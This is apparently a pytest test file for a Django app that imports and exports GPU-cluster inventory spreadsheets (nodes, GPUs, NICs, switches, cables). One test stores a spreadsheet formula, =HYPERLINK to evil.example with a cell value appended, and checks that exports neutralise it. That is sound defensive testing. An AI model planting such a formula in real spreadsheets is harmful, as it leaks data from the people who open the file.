"""Inventory spreadsheets: every problem reported with sheet, row and column, all or nothing,
re-import changes nothing, export → import → export is identical, and the operator pages."""

import csv
import io
import zipfile

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from fabric.models import (
    GPU,
    Cable,
    CableEnd,
    ChangeRecord,
    NetworkInterface,
    Node,
    Pod,
    Rack,
    Site,
    Switch,
    SwitchPort,
)
from fabric.spreadsheets import exporter, inventory_import, read_csv, read_upload, read_xlsx
from portal.services.audit import Actor
from tests.portal.factories import UserFactory

pytestmark = pytest.mark.django_db

GOOD = {
    "sites": [["name", "region"], ["dc1", "eu-west"]],
    "racks": [["site", "name", "pod", "u_height"], ["dc1", "r01", "su1", 42]],
    "nodes": [
        [
            *("serial", "name", "site", "rack", "rack_position", "rack_units", "vendor"),
            *("model", "node_type", "bmc_address"),
        ],
        ["SN1", "gpu01", "dc1", "r01", 1, 4, "Supermicro", "SYS-821", "hgx-h100-8", "10.0.0.1"],
        ["SN2", "gpu02", "dc1", "r01", 5, 4, "Supermicro", "SYS-821", "hgx-h100-8", "10.0.0.2"],
    ],
    "gpus": [
        ["uuid", "node", "index", "model", "memory_mb", "pci_bus_id", "mig_capable"],
        ["GPU-11111111-1111-4111-8111-111111111111", "gpu01", 0, "H100", 81559, "00:18.0", "true"],
        ["GPU-22222222-2222-4222-8222-222222222222", "gpu01", 1, "H100", 81559, "00:28.0", ""],
        ["GPU-33333333-3333-4333-8333-333333333333", "gpu02", 0, "H100", 81559, "00:18.0", ""],
    ],
    "nics": [
        ["mac", "node", "name", "kind", "speed_gbps", "ib_guid", "rail", "nearest_gpu"],
        ["AA:BB:CC:00:00:01", "gpu01", "ibp0", "infiniband", 400, "b8ce:f603:0000:0001", 0, 0],
        ["aa-bb-cc-00-00-02", "gpu01", "eth0", "ethernet", 200, "", "", ""],
        ["aabb.cc00.0003", "gpu02", "eth0", "ethernet", 200, "", "", ""],
    ],
    "switches": [
        ["name", "site", "pod", "vendor", "platform", "management_address", "role", "rail"],
        ["leaf1", "dc1", "su1", "Arista", "arista_eos", "10.1.0.1", "leaf", ""],
        ["ib1", "dc1", "su1", "NVIDIA", "ufm", "10.1.0.2", "ib", 0],
    ],
    "cables": [
        ["label", "kind", "length_m", "a_node", "a_interface", "b_switch", "b_port"],
        ["C1", "aoc", "3", "gpu01", "ibp0", "ib1", "p1"],
        ["C2", "dac", "2.5", "gpu01", "eth0", "leaf1", "Ethernet1"],
        ["C3", "dac", "", "gpu02", "eth0", "leaf1", "Ethernet2"],
    ],
}


def workbook(sheets: dict[str, list[list]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def edited(**changes: list[list]) -> dict[str, list[list]]:
    return {**{k: [list(r) for r in v] for k, v in GOOD.items()}, **changes}


def run_import(sheets: dict[str, list[list]], dry_run: bool = False):
    parsed = read_xlsx(workbook(sheets), filename="inventory.xlsx")
    return inventory_import(sheets=parsed, actor=Actor.system(), dry_run=dry_run)


def where(report) -> set[tuple]:
    return {(p.sheet, p.row, p.column) for p in report.problems}


def inventory_count() -> int:
    models = (Site, Pod, Rack, Node, GPU, NetworkInterface, Switch, SwitchPort, Cable, CableEnd)
    return sum(m.objects.count() for m in models)


# --- importing ---------------------------------------------------------------------------------


def test_given_a_good_workbook_when_imported_then_every_row_exists_and_is_logged():
    report = run_import(GOOD)

    assert report.ok, report.lines()
    assert report.applied
    node = Node.objects.get(serial="SN1")
    assert (node.name, node.site.name, node.rack.name, node.rack_position) == (
        "gpu01",
        "dc1",
        "r01",
        1,
    )
    assert str(node.bmc_address) == "10.0.0.1"
    assert node.gpus.count() == 2 and GPU.objects.get(index=0, node=node).mig_capable
    ib = NetworkInterface.objects.get(mac="aa:bb:cc:00:00:01")
    assert (ib.ib_guid, ib.nearest_gpu.index, ib.node) == ("b8ce:f603:0000:0001", 0, node)
    assert NetworkInterface.objects.filter(mac="aa:bb:cc:00:00:03").exists()
    assert Rack.objects.get(name="r01").pod.name == "su1"
    assert Switch.objects.get(name="ib1").pod == Pod.objects.get(name="su1")
    c1 = Cable.objects.get(label="C1")
    assert str(c1.length_m) == "3.00"
    assert {str(e.interface or e.port) for e in c1.ends.all()} == {"gpu01:ibp0", "ib1:p1"}
    assert SwitchPort.objects.count() == 3  # created for the cables
    assert report.tallies["nodes"].created == 2 and report.tallies["ports"].created == 3
    assert (
        ChangeRecord.objects.filter(via="import", action="create").count()
        == (report.change_records)
        == inventory_count()
    )


def test_given_an_imported_workbook_when_imported_again_then_nothing_is_written():
    run_import(GOOD)
    records = ChangeRecord.objects.count()

    report = run_import(GOOD)

    assert report.ok and report.change_records == 0
    assert ChangeRecord.objects.count() == records
    assert all(t.created == t.updated == 0 for t in report.tallies.values())
    assert report.tallies["gpus"].unchanged == 3


def test_given_changed_rows_when_imported_then_the_matched_objects_update_and_log_before_after():
    run_import(GOOD)
    node, nic = Node.objects.get(serial="SN1"), NetworkInterface.objects.get(name="ibp0")
    changed = edited()
    changed["nodes"][1][1] = "gpu01-renamed"  # matched by serial
    changed["gpus"][1][1] = changed["gpus"][2][1] = "gpu01-renamed"
    changed["nics"][1][0] = "aa:bb:cc:00:00:99"  # a new MAC on the same GUID: matched by GUID
    changed["nics"][1][1] = changed["nics"][2][1] = "gpu01-renamed"
    changed["nics"][2][4] = 100
    changed["switches"][1][3] = "Arista Networks"
    changed["cables"][1][3] = changed["cables"][2][3] = "gpu01-renamed"
    changed["cables"][2][6] = "Ethernet9"  # the cable moves to another port

    report = run_import(changed)

    assert report.ok, report.lines()
    assert Node.objects.count() == 2 and NetworkInterface.objects.count() == 3
    node.refresh_from_db()
    nic.refresh_from_db()
    assert node.name == "gpu01-renamed" and nic.mac == "aa:bb:cc:00:00:99"
    assert NetworkInterface.objects.get(mac="aa:bb:cc:00:00:02").speed_gbps == 100
    assert Switch.objects.get(name="leaf1").vendor == "Arista Networks"
    assert Cable.objects.get(label="C2").ends.get(side="b").port.name == "Ethernet9"
    assert {k: t.updated for k, t in report.tallies.items() if t.updated} == {
        "nodes": 1,
        "nics": 2,
        "switches": 1,
        "cables": 1,
    }
    record = ChangeRecord.objects.get(action="update", object_id=node.pk, object_repr=node.name)
    assert record.via == "import" and record.changed_fields == ["name"]
    assert (record.before["name"], record.after["name"]) == ("gpu01", "gpu01-renamed")
    end = ChangeRecord.objects.get(action="update", object_repr__startswith="C2/b")
    assert end.before["port_id"] != end.after["port_id"]


def test_given_several_bad_rows_when_imported_then_each_is_reported_and_nothing_changes():
    bad = edited()
    bad["nodes"].append(["SN1", "gpu03", "dc1", "r01", 9, 4, "S", "M", "t", "10.0.0.3"])  # dup
    bad["nodes"].append(["SN4", "gpu04", "dc9", "", "", 1, "S", "M", "t", "not-an-ip"])
    bad["nodes"].append(["SN5", "", "dc1", "r01", "", 1, "S", "M", "t", ""])
    bad["gpus"].append(["GPU-nope", "gpu99", "x", "H100", 1, "00:01.0", "maybe"])
    bad["nics"].append(["zz:zz", "gpu02", "ib9", "fibre", 0, "", "", ""])
    bad["nics"].append(["aa:bb:cc:00:00:10", "gpu02", "eth1", "ethernet", 0, "1234", "", 7])
    bad["switches"].append(["leaf2", "dc1", "", "Arista", "ios", "10.1.0.1", "leaf", ""])
    bad["cables"].append(["C4", "dac", "-1", "gpu02", "nope", "leaf1", "Ethernet3"])
    bad["cables"].append(["C5", "dac", "", "gpu02", "", "", ""])

    report = run_import(bad)

    assert not report.applied
    assert where(report) >= {
        ("nodes", 4, "serial"),  # duplicate of row 2
        ("nodes", 5, "site"),  # unknown site
        ("nodes", 5, "bmc_address"),
        ("nodes", 6, "name"),  # required
        ("nodes", 6, "rack_position"),  # a rack needs a position
        ("gpus", 5, "uuid"),
        ("gpus", 5, "node"),
        ("gpus", 5, "index"),
        ("gpus", 5, "mig_capable"),
        ("nics", 5, "mac"),
        ("nics", 5, "kind"),
        ("nics", 6, "ib_guid"),
        ("nics", 6, "nearest_gpu"),  # gpu02 has no GPU 7
        ("switches", 4, "platform"),
        ("switches", 4, "management_address"),  # leaf1's, in the same file
        ("cables", 5, "length_m"),
        ("cables", 5, "a_interface"),
        ("cables", 6, "a_node"),
    }
    reasons = {(p.sheet, p.row, p.column): p.reason for p in report.problems}
    assert reasons[("nodes", 4, "serial")] == "duplicate of row 2"
    assert "dc9" in reasons[("nodes", 5, "site")]
    assert inventory_count() == 0 and ChangeRecord.objects.count() == 0


def test_given_a_reference_to_a_row_of_a_missing_sheet_when_imported_then_it_is_reported():
    report = run_import({"nodes": GOOD["nodes"]})

    assert where(report) == {("nodes", 2, "site"), ("nodes", 3, "site")}
    assert Node.objects.count() == 0


def test_given_a_value_that_belongs_to_an_object_outside_the_file_then_it_is_a_conflict():
    run_import(GOOD)
    sheet = [GOOD["nodes"][0], ["SN9", "gpu09", "dc1", "", "", 1, "S", "M", "t", "10.0.0.1"]]

    report = run_import({"nodes": sheet})

    assert [(p.row, p.column) for p in report.problems] == [(2, "bmc_address")]
    assert report.problems[0].reason == ("already used by node 'gpu01', which is not in this file")


NEW_NODE = ["SN3", "gpu03", "dc1", "", "", 1, "Supermicro", "SYS-821", "hgx-h100-8", "10.0.0.3"]


@pytest.mark.parametrize("dry_run", [True, False])
@pytest.mark.parametrize(
    ("node", "name"), [("gpu03", "eth1"), ("gpu01", "eth1")], ids=["new-node", "same-node"]
)
def test_given_the_mac_of_an_infiniband_nic_on_another_interface_then_the_row_is_refused(
    dry_run, node, name
):
    run_import(GOOD)
    ibp0 = NetworkInterface.objects.get(mac="aa:bb:cc:00:00:01")
    records = ChangeRecord.objects.count()
    sheets = {
        "nodes": [GOOD["nodes"][0], NEW_NODE],
        "nics": [GOOD["nics"][0], ["aa:bb:cc:00:00:01", node, name, "ethernet", 100, "", "", ""]],
    }

    report = run_import(sheets, dry_run=dry_run)

    assert not report.applied
    assert [str(p) for p in report.problems] == [
        "nics, row 2, mac: aa:bb:cc:00:00:01 already belongs to gpu01 ibp0"
    ]
    assert (
        NetworkInterface.objects.get(pk=ibp0.pk).node.name,
        NetworkInterface.objects.get(pk=ibp0.pk).kind,
    ) == ("gpu01", "infiniband")
    assert not Node.objects.filter(name="gpu03").exists()
    assert ChangeRecord.objects.count() == records


def test_given_a_gpu_uuid_or_an_infiniband_guid_on_another_node_then_each_row_is_refused():
    run_import(GOOD)
    uuid = GOOD["gpus"][1][0]
    sheets = {
        "nodes": [GOOD["nodes"][0], NEW_NODE],
        "gpus": [GOOD["gpus"][0], [uuid, "gpu03", 0, "H100", 81559, "00:18.0", ""]],
        "nics": [
            GOOD["nics"][0],
            ["aa:bb:cc:00:00:31", "gpu03", "ibp0", "infiniband", 400, "b8ce:f603:0000:0001", 0, ""],
        ],
    }

    report = run_import(sheets)

    assert {(p.sheet, p.row, p.column): p.reason for p in report.problems} == {
        ("gpus", 2, "uuid"): f"{uuid} already belongs to gpu01 GPU0",
        ("nics", 2, "ib_guid"): "b8ce:f603:0000:0001 already belongs to gpu01 ibp0",
    }
    assert not report.applied and not Node.objects.filter(name="gpu03").exists()


def test_given_two_gpus_that_swap_serials_in_one_file_then_both_rows_are_refused():
    with_serials = [[*GOOD["gpus"][0], "serial"]] + [
        [*row, f"GS{i}"] for i, row in enumerate(GOOD["gpus"][1:], start=1)
    ]
    assert run_import(edited(gpus=with_serials)).ok
    swapped = [list(row) for row in with_serials]
    swapped[1][-1], swapped[2][-1] = "GS2", "GS1"

    report = run_import(edited(gpus=swapped))

    assert [str(p) for p in report.problems] == [
        "gpus, row 2, serial: GS2 already belongs to gpu01 GPU1",
        "gpus, row 3, serial: GS1 already belongs to gpu01 GPU0",
    ]
    assert GPU.objects.get(index=0, node__name="gpu01").serial == "GS1"


def test_given_rows_the_database_refuses_when_imported_then_everything_rolls_back():
    # Overlapping rack units pass the row checks; the exclusion constraint refuses them.
    clash = edited()
    clash["nodes"][2][4] = 3

    report = run_import(clash)

    assert not report.applied
    [problem] = report.problems
    assert (problem.sheet, problem.column) == ("nodes", "node_rack_units_do_not_overlap")
    assert "refused" in problem.reason
    assert inventory_count() == 0 and ChangeRecord.objects.count() == 0


def test_given_a_port_cabled_twice_then_it_is_reported_in_the_file_and_against_the_database():
    twice = edited()
    twice["cables"][3][6] = "Ethernet1"

    report = run_import(twice)

    assert where(report) == {("cables", 4, "b_port")}
    assert report.problems[0].reason == "port cabled twice (row 3)"

    run_import(GOOD)
    report = run_import(
        {"cables": [GOOD["cables"][0], ["C9", "dac", "", "gpu02", "eth0", "leaf1", "Ethernet7"]]}
    )
    assert [p.reason for p in report.problems] == ["interface already cabled by 'C3'"]


def test_given_a_dry_run_when_imported_then_it_reports_the_changes_and_writes_nothing():
    report = run_import(GOOD, dry_run=True)

    assert report.ok and not report.applied and report.tallies["gpus"].created == 3
    assert inventory_count() == 0 and ChangeRecord.objects.count() == 0


def _csv(rows: list[list]) -> str:
    return "\n".join(",".join(str(c) for c in row) for row in rows) + "\n"


def test_given_csv_files_when_imported_then_the_kind_comes_from_the_name_or_the_headers():
    sheets = [read_csv(_csv(GOOD["sites"]).encode("utf-8-sig"), filename="dc1-sites.csv")]
    sheets += [read_csv(_csv(GOOD["racks"]), filename="export (1).csv")]  # from its headers
    sheets += [read_csv(_csv(GOOD["nodes"]), filename="x.csv", kind="nodes")]

    report = inventory_import(sheets=sheets, actor=Actor.system())

    assert report.ok, report.lines()
    assert [s.kind for s in sheets] == ["sites", "racks", "nodes"]
    assert Node.objects.filter(rack__name="r01").count() == 2


def test_given_a_single_sheet_workbook_with_any_name_then_its_kind_is_inferred():
    data = workbook({"Sheet1": GOOD["sites"]})

    [sheet] = read_upload(data, filename="sites.xlsx")

    assert sheet.kind == "sites"
    assert inventory_import(sheets=[sheet], actor=Actor.system()).ok


# --- exporting -----------------------------------------------------------------------------------


def _clear_inventory() -> None:
    for model in (CableEnd, Cable, SwitchPort, Switch, NetworkInterface, GPU, Node, Rack, Pod):
        model.objects.all().delete()
    Site.objects.all().delete()


def _cells(data: bytes) -> dict[str, list[tuple]]:
    book = load_workbook(io.BytesIO(data), read_only=True)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def test_given_an_export_when_imported_into_an_empty_database_then_it_exports_identically():
    assert run_import(GOOD).ok
    csvs = {kind: exporter.csv_bytes(kind) for kind in GOOD}
    xlsx = exporter.xlsx_bytes()
    _clear_inventory()
    assert inventory_count() == 0

    report = inventory_import(sheets=read_xlsx(xlsx), actor=Actor.system())

    assert report.ok, report.lines()
    assert {kind: exporter.csv_bytes(kind) for kind in GOOD} == csvs
    assert _cells(exporter.xlsx_bytes()) == _cells(xlsx)
    assert csvs["nics"].decode().splitlines()[1].startswith("aa:bb:cc:00:00:01,gpu01,ibp0,")
    assert "C3,dac,,gpu02,eth0,,,,,leaf1,Ethernet2" in csvs["cables"].decode()
    _clear_inventory()
    zipped = exporter.csv_zip_bytes()
    assert inventory_import(sheets=read_upload(zipped, filename="a.zip"), actor=Actor.system()).ok


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_given_text_that_is_a_formula_when_exported_then_no_file_carries_a_live_formula():
    Site.objects.create(name="dc1", region="@eu-west", description=HYPERLINK)

    xlsx, template = (exporter.xlsx_bytes(), exporter.template_bytes())
    sites_csv = exporter.csv_bytes("sites")

    books = [load_workbook(io.BytesIO(data)) for data in (xlsx, template)]
    cells = [c for book in books for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    description = books[0]["sites"]["C2"]
    assert (description.value, description.data_type) == (HYPERLINK, "s")
    assert list(csv.reader(io.StringIO(sites_csv.decode()))) == [
        ["name", "region", "description"],
        ["dc1", "'@eu-west", "'" + HYPERLINK],
    ]
    zipped = zipfile.ZipFile(io.BytesIO(exporter.csv_zip_bytes()))
    assert zipped.read("sites.csv") == sites_csv
    # Our own import reads the original text back from either file.
    _clear_inventory()
    sheets = [read_csv(sites_csv, filename="sites.csv")]
    assert inventory_import(sheets=sheets, actor=Actor.system()).ok
    assert exporter.csv_bytes("sites") == sites_csv
    site = Site.objects.get()
    assert (site.region, site.description) == ("@eu-west", HYPERLINK)
    _clear_inventory()
    assert inventory_import(sheets=read_xlsx(xlsx), actor=Actor.system()).ok
    assert Site.objects.get().description == HYPERLINK


# --- pages and commands --------------------------------------------------------------------------


@pytest.fixture
def operator(client):
    client.force_login(UserFactory(is_staff=True))
    return client


def test_given_an_operator_when_downloading_the_template_then_it_has_headers_only(operator):
    response = operator.get("/operator/inventory/template.xlsx")

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="inventory-template.xlsx"'
    cells = _cells(response.content)
    assert list(cells) == [*GOOD, "bmcs", "about"]
    assert cells["nodes"] == [tuple(exporter.KINDS["nodes"].headers)]
    assert cells["about"][1 + 3 + 4 + 15 + 10][:3] == ("nics", "mac", "yes")


def test_given_an_operator_when_uploading_then_a_dry_run_reports_and_a_real_run_imports(operator):
    upload = io.BytesIO(workbook(GOOD))
    upload.name = "inventory.xlsx"

    response = operator.post("/operator/inventory/import/", {"file": upload, "dry_run": "on"})

    assert response.status_code == 200 and b"Dry run" in response.content
    assert Node.objects.count() == 0
    upload.seek(0)
    response = operator.post("/operator/inventory/import/", {"file": upload})
    assert response.status_code == 200 and b'id="summary-table"' in response.content
    assert Node.objects.count() == 2
    assert ChangeRecord.objects.filter(actor=response.wsgi_request.user).exists()

    bad = io.BytesIO(workbook(edited(sites=[["name", "region"], ["", "eu"]])))
    bad.name = "bad.xlsx"
    response = operator.post("/operator/inventory/import/", {"file": bad})
    assert response.status_code == 400
    assert b"<td>sites</td><td>2</td><td>name</td><td>required</td>" in response.content

    csv = operator.get("/operator/inventory/export/nodes.csv")
    assert csv["Content-Type"].startswith("text/csv") and b"SN1,gpu01,dc1,r01,1,4," in csv.content
    assert operator.get("/operator/inventory/export/widgets.csv").status_code == 404
    assert _cells(operator.get("/operator/inventory/export.xlsx").content)["sites"][1][0] == "dc1"


@pytest.mark.parametrize("url", ["/operator/inventory/import/", "/operator/inventory/export.xlsx"])
def test_given_a_user_who_is_not_staff_then_the_pages_are_refused(client, url):
    client.force_login(UserFactory())

    response = client.get(url)

    assert response.status_code in (302, 403)
    assert "login" in response.get("Location", "login")


def test_given_a_bad_file_when_the_command_imports_then_it_prints_the_problems_and_fails(
    tmp_path, capsys
):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(workbook(edited(sites=[["name", "region"], ["", "eu"]])))

    with pytest.raises(CommandError):
        call_command("inventory_import", str(path))

    assert "sites, row 2, name: required" in capsys.readouterr().out
    path.write_bytes(workbook(GOOD))
    call_command("inventory_import", str(path), "--dry-run")
    assert Node.objects.count() == 0
    call_command("inventory_import", str(path))
    assert Node.objects.count() == 2

    call_command("inventory_export", str(tmp_path / "all.zip"), "--format", "csv")
    names = zipfile.ZipFile(tmp_path / "all.zip").namelist()
    assert names == [f"{kind}.csv" for kind in [*GOOD, "bmcs"]]
    call_command("inventory_export", str(tmp_path / "all.xlsx"))
    assert _cells((tmp_path / "all.xlsx").read_bytes())["nodes"][1][0] == "SN1"
